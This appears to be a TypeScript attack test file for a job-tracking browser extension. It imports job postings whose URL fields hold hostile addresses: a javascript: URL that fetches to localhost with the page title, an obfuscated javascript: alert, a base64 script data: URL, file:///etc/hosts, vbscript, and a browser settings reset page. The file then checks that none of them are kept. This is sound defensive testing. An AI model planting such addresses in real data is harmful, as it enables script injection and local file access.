import type { Job } from '@/domain/job/job';
import { importCsv } from '@/store/files/import-csv';
import { importJson } from '@/store/files/import-json';
import type { PlainAttack } from '../../attack';
import { pairs } from '../../pairs';
import { backupOf, withPanel } from './attacked-panel';

const now = '2026-11-23T10:00:00.000Z';

/** Addresses that run, read or open something of the browser's or the machine's. */
const addresses = {
  script: 'javascript:fetch(`//127.0.0.1:9/`+document.title)',
  'script-in-disguise': ' \u0001java\tscript\n:alert(1)//https://jobs.example',
  data: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  file: 'file:///etc/hosts',
  'browser-page': 'chrome://settings/resetProfileSettings',
  'extension-page': 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/sidepanel.html',
  blob: 'blob:https://jobs.example/1',
  'view-source': 'view-source:https://jobs.example/1',
  vbscript: 'VBScript:msgbox(1)',
} as const;

const formats = ['csv', 'json', 'backup'] as const;

/** A posting that leads out of the web. What the panel opens is taken from the job as it is kept. */
export const addressAttacks: readonly PlainAttack[] = pairs({
  address: Object.keys(addresses) as (keyof typeof addresses)[],
  format: formats,
  field: ['url', 'applyUrl', 'searchUrl'] as const,
}).map(({ address, format, field }) => ({
  id: `files/address/${address}-${format}-${field}`,
  class: 'files',
  goal: 'an address among the jobs that leads out of the web',
  needsBrowser: false,
  attack: () =>
    withPanel(async ({ store, bringIn }) => {
      const job = { ...plainJob, [field]: addresses[address], urls: [addresses[address]] };
      if (format === 'csv') await importCsv(store.jobs, csvOf(job), now);
      else if (format === 'json') await importJson(store.jobs, new Blob([JSON.stringify([job])]), now);
      else await bringIn(backupOf([{ store: 'jobs', value: storedJob(job) }]));
      const [kept] = await store.jobs.list();
      if (!kept) throw new Error('the job was not taken at all');
      const led = [kept.url, kept.applyUrl, kept.searchUrl, ...kept.urls].filter((one) => one);
      return { presses: led.filter((one) => one && !/^https?:\/\//i.test(one)).length };
    }),
}));

const plainJob: Job = {
  id: '11111111-1111-4111-8111-111111111111',
  site: 'jobs.example',
  siteJobId: '1',
  key: 'jobs.example#1',
  url: 'https://jobs.example/1',
  urls: [],
  requisitions: [],
  title: 'Zymurgist',
  company: 'Brackenfell',
  location: null,
  remoteType: null,
  salary: null,
  employmentType: null,
  applyType: 'unknown',
  applyUrl: null,
  postedDate: null,
  postedText: null,
  description: 'Malt.',
  searchUrl: 'https://jobs.example/',
  search: null,
  foundAt: now,
  lastSeenAt: now,
  detailsReadAt: null,
  source: 'import',
  runId: null,
  status: 'saved',
  skipReason: null,
  notes: '',
  tags: [],
  editedFields: [],
  mergedInto: null,
  distinctFrom: [],
  deletedAt: null,
};

const storedJob = (job: Job) => ({
  ...job,
  textKey: 'zymurgist',
  place: { runStartedAt: now, step: 0, index: 0 },
  order: '0',
  likeness: '',
  hasDescription: false,
  requisitionKeys: [],
});

const quoted = (text: string | null): string => `"${(text ?? '').replaceAll('"', '""')}"`;

const csvOf = ({ title, url, applyUrl, searchUrl }: Job): string =>
  `title,job_url,apply_url,search_url,source_site\r\n${[title, url, applyUrl, searchUrl, 'jobs.example'].map(quoted).join(',')}\r\n`;
